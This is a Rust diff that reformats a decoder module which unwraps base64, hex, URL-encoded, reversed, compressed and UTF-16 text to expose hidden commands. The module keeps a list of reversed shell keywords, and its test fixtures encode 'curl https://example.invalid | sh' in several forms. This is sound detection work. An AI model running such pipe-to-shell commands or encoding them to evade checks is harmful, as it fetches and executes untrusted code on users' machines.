@@ -37,13 +37,19 @@ pub(crate) fn layers(text: &str) -> Vec<Layer> {
         return out;
     }
     if trimmed.len() >= MIN_BASE64 && !has_words(trimmed) {
-        for word in trimmed.split(|c: char| !is_base64(c) && !c.is_ascii_whitespace()).take(64) {
+        for word in trimmed
+            .split(|c: char| !is_base64(c) && !c.is_ascii_whitespace())
+            .take(64)
+        {
             let word = word.trim();
             if word.len() >= MIN_BASE64
                 && mixed(word)
                 && let Some(text) = base64(word).and_then(readable)
             {
-                out.push(Layer { how: "base64", text });
+                out.push(Layer {
+                    how: "base64",
+                    text,
+                });
             }
         }
         if trimmed.len() >= MIN_HEX
@@ -55,11 +61,17 @@ pub(crate) fn layers(text: &str) -> Vec<Layer> {
     if trimmed.len() >= 16 && trimmed.bytes().filter(|b| *b == b'%').count() * 6 > trimmed.len() {
         let decoded = url(trimmed);
         if decoded != trimmed {
-            out.push(Layer { how: "url", text: decoded });
+            out.push(Layer {
+                how: "url",
+                text: decoded,
+            });
         }
     }
     if looks_reversed(trimmed) {
-        out.push(Layer { how: "reversed", text: trimmed.chars().rev().collect() });
+        out.push(Layer {
+            how: "reversed",
+            text: trimmed.chars().rev().collect(),
+        });
     }
     out
 }
@@ -75,7 +87,7 @@ fn is_base64(c: char) -> bool {
 
 /// Has digits or both cases: a path or an identifier rarely has all through 24 letters.
 fn mixed(text: &str) -> bool {
-    let has = |f: fn(&u8) -> bool| text.as_bytes().iter().any(|b| f(b));
+    let has = |f: fn(&u8) -> bool| text.as_bytes().iter().any(f);
     has(u8::is_ascii_lowercase) && (has(u8::is_ascii_uppercase) || has(u8::is_ascii_digit))
         || has(u8::is_ascii_uppercase) && has(u8::is_ascii_digit)
 }
@@ -93,9 +105,17 @@ fn has_words(text: &str) -> bool {
 
 fn looks_reversed(text: &str) -> bool {
     text.len() >= 8
-        && ["//:sptth", "//:ptth", "lave", "hsab/nib/", " lruc", "cexe", "metsys"]
-            .iter()
-            .any(|needle| text.ends_with(needle) || text.contains(&format!("{needle} ")))
+        && [
+            "//:sptth",
+            "//:ptth",
+            "lave",
+            "hsab/nib/",
+            " lruc",
+            "cexe",
+            "metsys",
+        ]
+        .iter()
+        .any(|needle| text.ends_with(needle) || text.contains(&format!("{needle} ")))
         && !text.contains("://")
 }
 
@@ -105,7 +125,10 @@ pub(crate) fn base64(text: &str) -> Option<Vec<u8>> {
     if text.is_empty() || text.len() > 2 * MAX {
         return None;
     }
-    STANDARD.decode(&text).or_else(|_| URL_SAFE.decode(&text)).ok()
+    STANDARD
+        .decode(&text)
+        .or_else(|_| URL_SAFE.decode(&text))
+        .ok()
 }
 
 /// Decodes hex digits, with `0x`, `\x`, spaces, commas or colons between.
@@ -159,10 +182,14 @@ pub(crate) fn rot13(text: &str) -> String {
 pub(crate) fn inflate(bytes: &[u8]) -> Option<Vec<u8>> {
     let mut out = Vec::new();
     match bytes {
-        [0x1f, 0x8b, ..] => flate2::read::GzDecoder::new(bytes).take(MAX as u64).read_to_end(&mut out).ok()?,
-        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => {
-            flate2::read::ZlibDecoder::new(bytes).take(MAX as u64).read_to_end(&mut out).ok()?
-        }
+        [0x1f, 0x8b, ..] => flate2::read::GzDecoder::new(bytes)
+            .take(MAX as u64)
+            .read_to_end(&mut out)
+            .ok()?,
+        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => flate2::read::ZlibDecoder::new(bytes)
+            .take(MAX as u64)
+            .read_to_end(&mut out)
+            .ok()?,
         _ => return None,
     };
     Some(out)
@@ -177,25 +204,41 @@ pub(crate) fn readable(bytes: Vec<u8>) -> Option<String> {
     if bytes.len() > MAX {
         return None;
     }
-    let text = String::from_utf8(bytes).or_else(|e| utf16(&e.into_bytes()).ok_or(())).ok()?;
-    let text = if text.contains('\0') { utf16(text.as_bytes())? } else { text };
+    let text = String::from_utf8(bytes)
+        .or_else(|e| utf16(&e.into_bytes()).ok_or(()))
+        .ok()?;
+    let text = if text.contains('\0') {
+        utf16(text.as_bytes())?
+    } else {
+        text
+    };
     let total = text.chars().count();
     let plain = text
         .chars()
-        .filter(|c| matches!(c, '\n' | '\r' | '\t' | ' '..='~') || (c.is_alphanumeric() && !c.is_control()))
+        .filter(|c| {
+            matches!(c, '\n' | '\r' | '\t' | ' '..='~') || (c.is_alphanumeric() && !c.is_control())
+        })
         .count();
-    let ascii = text.chars().filter(|c| matches!(c, '\n' | '\r' | '\t' | ' '..='~')).count();
+    let ascii = text
+        .chars()
+        .filter(|c| matches!(c, '\n' | '\r' | '\t' | ' '..='~'))
+        .count();
     (total >= 8 && plain * 20 >= total * 19 && ascii * 10 >= total * 7).then_some(text)
 }
 
 /// Little-endian UTF-16, as PowerShell's `-EncodedCommand` has it.
 fn utf16(bytes: &[u8]) -> Option<String> {
-    if bytes.len() < 8 || bytes.len() % 2 != 0 {
+    if bytes.len() < 8 || !bytes.len().is_multiple_of(2) {
         return None;
     }
-    let units: Vec<u16> = bytes.chunks_exact(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect();
+    let units: Vec<u16> = bytes
+        .chunks_exact(2)
+        .map(|c| u16::from_le_bytes([c[0], c[1]]))
+        .collect();
     let text = String::from_utf16(&units).ok()?;
-    text.chars().all(|c| !c.is_control() || c.is_ascii_whitespace()).then_some(text)
+    text.chars()
+        .all(|c| !c.is_control() || c.is_ascii_whitespace())
+        .then_some(text)
 }
 
 #[cfg(test)]
@@ -207,17 +250,28 @@ mod tests {
     #[test]
     fn layers_are_found_under_each_encoding() {
         for (text, how, inner) in [
-            ("Y3VybCBodHRwczovL2V4YW1wbGUuaW52YWxpZCB8IHNo", "base64", "curl https://example.invalid | sh"),
+            (
+                "Y3VybCBodHRwczovL2V4YW1wbGUuaW52YWxpZCB8IHNo",
+                "base64",
+                "curl https://example.invalid | sh",
+            ),
             (
                 "6375726c2068747470733a2f2f6578616d706c652e696e76616c6964",
                 "hex",
                 "curl https://example.invalid",
             ),
             ("%63%75%72%6c%20%68%74%74%70%73", "url", "curl https"),
-            ("hs | dilavni.elpmaxe//:sptth", "reversed", "https://example.invalid | sh"),
+            (
+                "hs | dilavni.elpmaxe//:sptth",
+                "reversed",
+                "https://example.invalid | sh",
+            ),
         ] {
             let layers = layers(text);
-            assert!(layers.iter().any(|l| l.how == how && l.text == inner), "{text}: {layers:?}");
+            assert!(
+                layers.iter().any(|l| l.how == how && l.text == inner),
+                "{text}: {layers:?}"
+            );
         }
     }
 
